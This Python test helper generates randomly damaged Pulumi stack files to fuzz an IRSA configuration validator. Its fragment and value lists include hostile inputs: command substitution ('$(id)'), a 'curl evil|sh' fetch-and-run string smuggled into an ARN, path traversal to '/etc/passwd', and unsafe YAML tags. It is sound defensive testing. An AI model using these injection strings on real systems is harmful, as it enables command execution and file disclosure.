"""Damaged stack files: changes that know the structure, changes of single characters, and YAML that surprises."""

import functools
import random
from collections.abc import Sequence
from copy import deepcopy
from pathlib import Path
from typing import Any

import yaml

from irsa.rules.mistakes import Place
from irsa_config.key_types import keys_at
from tests.places import at, places

ROOT = Path(__file__).parents[2]
BASES = tuple(
    ROOT / name for name in ("Pulumi.showcase.yaml", "Pulumi.dev.yaml", "examples/stack-files/six-bindings.yaml")
)
DUMP = functools.partial(
    yaml.dump, Dumper=getattr(yaml, "CSafeDumper", yaml.SafeDumper), sort_keys=False, allow_unicode=True
)
# What a shell, a terminal, a CI log, YAML, IAM's patterns or Unicode's digits would take for more than text.
FRAGMENTS = (
    *("\n", "\nfix: x", "\x1b[31m", "\x85", "\u2028", "\u202e", "\ufeff", "\u00a0", "\x00", "\t", " ", "'", '"', "\\"),
    *("$(id)", "`id`", "; curl evil|sh", "::error::x", "#", "&", "<", "%0A", "{", "}", "[", "]"),
    *("*", "?", "${", "${account}", "${cluster}", "${aws:username}", "${bucket}", ":", "/", "//", "@", "-", ".", "_"),
    *("x" * 60, "x" * 600, "ä", "日本", "\u0663", "A", "0", "1", "2012-10-17", "arn:aws:iam::111122223333:role/x"),
)
STATEMENT = {"Effect": "Allow", "Action": "sts:AssumeRole", "Principal": {"AWS": "111122223333"}}
VALUES: tuple[Any, ...] = (
    *(None, True, False, 0, -1, 3.5, 10**30, float("inf"), float("nan"), "", " ", "x", "*", "*:*", "a:b:c", "x" * 3000),
    *([], [[]], [None], {}, {"secure": "v1:abc"}, {"x": {"y": {"z": 1}}}, [{"a": 1}], "${", "${}", "${x}", "${aws:x}"),
    *("arn:", "arn:aws:iam::111122223333:policy/p", "arn:aws:iam::1:role/", "2012-10-17", "policies/none.json"),
    *("policies", "../../../etc/hostname", "/dev/zero", "/", "https://x?y", "a/b/c", "policies/my-policy.json"),
    *({"Version": "2012-10-17", "Statement": []}, {"Statement": "x"}, {"Version": "2012-10-17", "Statement": [1]}),
    *({"file": 3}, {"document": []}, {"file": "../../../etc/hostname"}, {"name": {}}, {"AWS": [1, ""]}, {1: 2}),
    *({"StringEquals": {"aws:ResourceAccount": 11112222333}}, {"NullIfExists": {"aws:username": "true"}}),
    *(
        {"StringLike": {"${cluster}:sub": "x"}},
        {"Bool": {"aws:SecureTransport": "maybe"}},
        {"Aws:tag": "a", "aws:Tag": "b"},
    ),
    *([STATEMENT], [{**STATEMENT, "Principal": "*"}], [{**STATEMENT, "Sid": "s"}, {**STATEMENT, "Sid": "s"}]),
)
ROLE = "arn:aws:iam::111122223333:role/"


def _policy(**changes: Any) -> dict[str, Any]:
    return {
        "Version": "2012-10-17",
        "Statement": [{"Effect": "Allow", "Action": "s3:GetObject", "Resource": "*"} | changes],
    }


# Values of the right kind, each at a limit or beyond it, by the key that they are for.
BY_KEY: dict[str, tuple[Any, ...]] = {
    "tags": (
        *(
            {"Team": "a", "team": "b"},
            {"aws:x": "y"},
            {"": "x"},
            {"k" * 128: "v" * 256},
            {"k" * 129: "v"},
            {"a;b": "x"},
        ),
        *({"ä": "日本"}, {"x": 1}, {"x": True}, {"\n": "x"}, {f"k{n}": "v" for n in range(51)}, {"a": "\u0663"}),
    ),
    "conditions": (
        *({"NullIfExists": {"aws:username": "true"}}, {"ForAnyValue:Null": {"aws:username": "true"}}, {"Null": {}}),
        *({"ForAnyValue:ForAllValues:StringEquals": {"a:b": "x"}}, {"StringEquals": {"aws:RequestTag/a": 12}}, {}),
        *({"StringEquals": {"aws:RequestTag/${bucket}": "x", "aws:RequestTag/my-pod-secrets-bucket": "y"}}, {"x": {}}),
        *(
            {"StringLike": {"aws:userid": "${cluster}*"}},
            {"StringEquals": {"aws:username": "日本"}},
            {"Bool": {"a:b": []}},
        ),
        *({"stringequals": {"aws:username": ["a", "b"]}}, {"StringEqualsIfExists": {"${cluster}:sub": "x"}}),
    ),
    "statements": (
        *([STATEMENT], [{**STATEMENT, "Sid": "Same"}, {**STATEMENT, "Sid": "Same"}], [{**STATEMENT, "Sid": "a b"}]),
        *([{**STATEMENT, "Action": "s3:GetObject"}], [{**STATEMENT, "Principal": {"AWS": [1, ""]}}], [STATEMENT] * 9),
        *([{**STATEMENT, "Principal": "*"}], [{**STATEMENT, "Principal": {}}], [{**STATEMENT, "Resource": "*"}], []),
        *([{**STATEMENT, "NotAction": "sts:TagSession"}], [{**STATEMENT, "Principal": {"Federated": "*"}}], [[]]),
    ),
    "document": (
        *(
            _policy(),
            _policy(Sid="a b"),
            _policy(Resource="arn:aws:s3:::日本"),
            _policy(Action=[]),
            _policy(Effect="allow"),
        ),
        *(_policy(Condition={"NullIfExists": {"a:b": "true"}}), _policy(Principal="*"), _policy(NotAction="*"), {}),
        *(_policy(Resource=["x"] * 3), _policy(Resource=[f"arn:aws:s3:::{n:0>60}/*" for n in range(150)]), "{", "null"),
        *(_policy(Condition={"NumericLessThan": {"s3:max-keys": 10}}), _policy(Resource="arn:aws:s3:::${cluster}*")),
        *(
            {"Version": "2008-10-17", "Statement": _policy()["Statement"]},
            {**_policy(), "Id": "x"},
            {**_policy(), "X": 1},
        ),
    ),
    "name": (
        "a",
        "a" * 63,
        "a" * 64,
        "a" * 65,
        "a" * 128,
        "a" * 253,
        "a.b",
        "A",
        "a-",
        "日本",
        "a_b",
        "a b",
        "\u0663",
        "1",
    ),
    "namespace": ("a", "a" * 63, "a" * 64, "a.b", "A", "-a", "日本", "default", "kube-system"),
    "path": (
        "/",
        "//",
        "/x",
        "x/",
        "/a*b$(id)/",
        "/日本/",
        "/a/b/",
        f"/{'a' * 510}/",
        f"/{'a' * 511}/",
        "/a b/",
        "/~/",
    ),
    "description": ("\u201cquoted\u201d", "日本", "\u20ac", "é", "x" * 1000, "x" * 1001, "\n", "\x7f", "\x00", ""),
    "labels": (
        {"a/b/c": "x"},
        {"-a": "x"},
        {"a": "x" * 63},
        {"a": "x" * 64},
        {"A": "-"},
        {"a": "日本"},
        {"x" * 64: ""},
        {"": ""},
    ),
    "annotations": ({"eks.amazonaws.com/role-arn": "x"}, {"a b": "x"}, {"A/b": "x"}, {"a": "\n"}, {"a": 1}, {"a": ""}),
    "arn": (
        f"{ROLE}x",
        f"{ROLE}x;curl${{IFS}}evil|sh",
        f"{ROLE}{'x' * 300}",
        f"{ROLE}日本",
        "arn:aws:iam::\u0661\u0661\u0661\u0661\u0662\u0662\u0662\u0662\u0663\u0663\u0663\u0663:role/x",
    ),
    "permissionsBoundary": (
        "arn:aws:iam::aws:policy/X",
        "arn:aws:iam::111122223333:policy/x y",
        f"{ROLE}x",
        "arn:aws:iam::111122223333:policy/日本",
    ),
    "policyArns": (
        ["arn:aws:iam::aws:policy/X"] * 2,
        ["arn:aws:iam::111122223333:policy/x$(id)"],
        [f"arn:aws:iam::aws:policy/{n}" for n in range(21)],
    ),
    "assumeRoleArns": ([f"{ROLE}x"], [f"{ROLE}x"] * 2, [f"{ROLE}*"], [f"{ROLE}x y"], []),
    "audience": ("x", "x" * 255, "x" * 256, "日本", "a b", "*", "a,b"),
    "subjects": (
        ["a:b"] * 2,
        ["*:?*"],
        ["a:b:c"],
        [f"n{n}:a" for n in range(200)],
        ["a*:*", "b:?*"],
        ["*:*"],
        ["A:b"],
        [],
    ),
    "maxSessionDuration": (3599, 3600, 43200, 43201, "3600", 3600.0, 3600.5, True),
    "tokenExpiration": (599, 600, 86400, 86401, 10**12, "600"),
    "imagePullSecrets": (["a"], ["a", "a"], ["A"], ["a" * 254], [{"name": "a"}]),
    "import": (["role"], ["role", "role"], ["serviceAccount", "attachments"], ["x"]),
    "formerly": ("a", "a@b", "a::b", "日本", "$(id)"),
    "clusters": (["blue"], ["blue", "blue"], ["blue", "green"], ["none"]),
    "file": ("policies/../policies/my-policy.json", "/etc/passwd", "policies/\x00", "x" * 5000),
    "oidcIssuer": (
        *(
            "https://x",
            "https://x/",
            "http://x",
            "https://x/id/A$(id)",
            "https://x?y",
            "https://日本",
            "https://user@x",
        ),
    ),
    "variables": (
        {"bucket": ""},
        {"bucket": "${bucket}"},
        {"bucket": "*"},
        {"bucket": 1},
        {"account": "x"},
        {"a b": "x"},
    ),
}
# Text that changes what YAML makes of the rest, put where a value may begin.
YAML = ("&a ", "*a", "!!int ", "!!binary ", "!!python/object:x ", "!x ", "<<: *a", "? ", "- ", "| ", ">\n", "%YAML 9\n")


def case(seed: int, number: int) -> str:
    """Return the text of one damaged stack file; the same for the same seed and number."""
    chance = random.Random(f"{seed}/{number}")
    text = _text(chance.choice(BASES))
    if chance.random() < 0.1:
        return _scratched(text, chance)
    document = _fewer_bindings(yaml.load(text, Loader=getattr(yaml, "CSafeLoader", yaml.SafeLoader)), chance)
    for _ in range(chance.choice((1, 1, 1, 2, 3))):
        _change(document["config"], chance)
    damaged = str(DUMP(document))
    return _scratched(damaged, chance) if chance.random() < 0.05 else damaged


@functools.cache
def _text(file: Path) -> str:
    return file.read_text()


def _fewer_bindings(document: Any, chance: random.Random) -> Any:
    """Return the document with one to four of its bindings, so that one change has a chance to be accepted."""
    config = document["config"]
    every = config["irsa:bindings"]
    kept = set(chance.sample(sorted(every), chance.randint(1, min(4, len(every)))))
    config["irsa:bindings"] = {key: binding for key, binding in every.items() if key in kept}
    silenced = config.get("irsa:lint", {}).get("silence", {})
    for rule in list(silenced):
        if not kept.issuperset(silenced[rule].get("bindings", ())):
            del silenced[rule]
    return document


def _change(config: Any, chance: random.Random) -> None:
    """Change one place of the settings."""
    every = [place for place in places(config) if place]
    known = [place for place in every if place[-1] in BY_KEY]
    change = chance.choice(CHANGES)
    change(config, chance.choice((change is _known and known) or every), every, chance)


def _known(config: Any, place: Place, _: Sequence[Place], chance: random.Random) -> None:
    at(config, place[:-1])[place[-1]] = deepcopy(chance.choice(BY_KEY.get(str(place[-1]), VALUES)))


def _set(config: Any, place: Place, _: Sequence[Place], chance: random.Random) -> None:
    at(config, place[:-1])[place[-1]] = deepcopy(chance.choice(VALUES))


def _alter(config: Any, place: Place, _: Sequence[Place], chance: random.Random) -> None:
    container, key = at(config, place[:-1]), place[-1]
    if isinstance(container[key], str):
        container[key] = _altered(container[key], chance)
    elif isinstance(container, dict):
        container[_altered(str(key), chance)] = container.pop(key)


def _alike(config: Any, place: Place, every: Sequence[Place], chance: random.Random) -> None:
    """Put in what stands under the same key elsewhere: it is of the right kind, and so the change goes deeper."""
    alike = [each for each in every if each[-1] == place[-1]]
    at(config, place[:-1])[place[-1]] = deepcopy(at(config, chance.choice(alike)))


def _move(config: Any, place: Place, every: Sequence[Place], chance: random.Random) -> None:
    at(config, place[:-1])[place[-1]] = deepcopy(at(config, chance.choice(every)))


def _remove(config: Any, place: Place, *_: Any) -> None:
    del at(config, place[:-1])[place[-1]]


def _rename(config: Any, place: Place, *_: Any) -> None:
    container, key = at(config, place[:-1]), place[-1]
    if isinstance(container, dict):
        container[str(key)[1:] + "x"] = container.pop(key)


def _give(config: Any, place: Place, _: Sequence[Place], chance: random.Random) -> None:
    """Add a key that belongs there, or an item."""
    keys = keys_at((str(place[0]).removeprefix("irsa:"), *place[1:-1])) or keys_at(("bindings", "x"))
    key = chance.choice(keys)
    _add(at(config, place[:-1]), key, deepcopy(chance.choice((*VALUES, *BY_KEY.get(key, ())))))


def _copy(config: Any, place: Place, _: Sequence[Place], chance: random.Random) -> None:
    container, key = at(config, place[:-1]), place[-1]
    _add(container, _altered(str(key), chance), deepcopy(container[key]))


# Changes that keep the kind of a value come more often: they are accepted more often.
CHANGES = (*[_known] * 3, *[_alter] * 2, *[_alike] * 2, _set, _move, _remove, _rename, _give, _copy)


def _add(container: Any, key: Any, value: Any) -> None:
    if isinstance(container, dict):
        container[key] = value
    else:
        container.append(value)


def _altered(text: str, chance: random.Random) -> str:
    """Return a text with a fragment put in, a character lost, or a part of it twice."""
    start = chance.randint(0, len(text))
    match chance.choice(("put", "put", "lose", "twice")):
        case "put":
            return text[:start] + chance.choice(FRAGMENTS) + text[start:]
        case "lose":
            return text[:start] + text[start + 1 :]
        case _:
            return text[:start] + text


def _scratched(text: str, chance: random.Random) -> str:
    """Return the text with some characters lost or something put in, as a typing error does."""
    start = chance.randrange(len(text))
    put = chance.choice(("", "\t", "{", "]", ":", "'", "\n", *YAML, *FRAGMENTS))
    return text[:start] + put + text[start + chance.randrange(4) :]
